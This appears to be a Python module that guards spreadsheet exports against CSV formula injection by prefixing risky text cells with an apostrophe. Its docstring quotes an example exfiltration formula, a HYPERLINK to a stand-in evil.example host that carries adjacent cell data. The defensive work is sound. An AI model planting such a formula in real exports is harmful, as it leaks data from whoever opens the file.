"""CSV cells a spreadsheet will not run: every CSV the hub writes goes through :func:`spreadsheet_safe_row`.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and Google Sheets
(tab and carriage return are on OWASP's list too, as some importers drop them and read what follows).
A SKU named ``=HYPERLINK("https://evil.example/?"&A2, "Details")`` would otherwise run, with the rows
beside it, on the desk of whoever opens the export. Such a text cell gets a leading apostrophe, which
spreadsheets take as "this is text" and do not show (OWASP, CSV Injection).

Plain numbers are left alone, ``-5`` or ``+1.5e3`` included: they are what numeric columns hold, a
spreadsheet reads them as the number they are, and no formula hides in them.

Imports take a cell as given, so a name can be anything the catalog allows; they only undo this
module's apostrophe (:func:`unneutralise`), so that an exported file imported again changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

# OWASP's list: formula starters, and tab / carriage return.
FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r")
ESCAPE: Final = "'"
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _runs_as_formula(cell: str) -> bool:
    """Whether ``cell``, without any leading apostrophes, starts like a formula and is not a plain number."""
    text = cell.lstrip(ESCAPE)
    return bool(text) and text[0] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text) is None


def neutralise(cell: str) -> str:
    """``cell`` with a leading apostrophe if a spreadsheet would take it for a formula.

    A text that already starts with apostrophes before a formula gets one more, so that
    :func:`unneutralise` gives every text back exactly.
    """
    return ESCAPE + cell if _runs_as_formula(cell) else cell


def unneutralise(cell: str) -> str:
    """``cell`` without the apostrophe :func:`neutralise` put in front of it; ``unneutralise(neutralise(x)) == x``."""
    return cell[1:] if cell.startswith(ESCAPE) and _runs_as_formula(cell[1:]) else cell


def spreadsheet_safe_row(values: Iterable[object]) -> list[object]:
    """The row's text cells neutralised; numbers, booleans and empty cells as they are."""
    return [neutralise(value) if isinstance(value, str) else value for value in values]
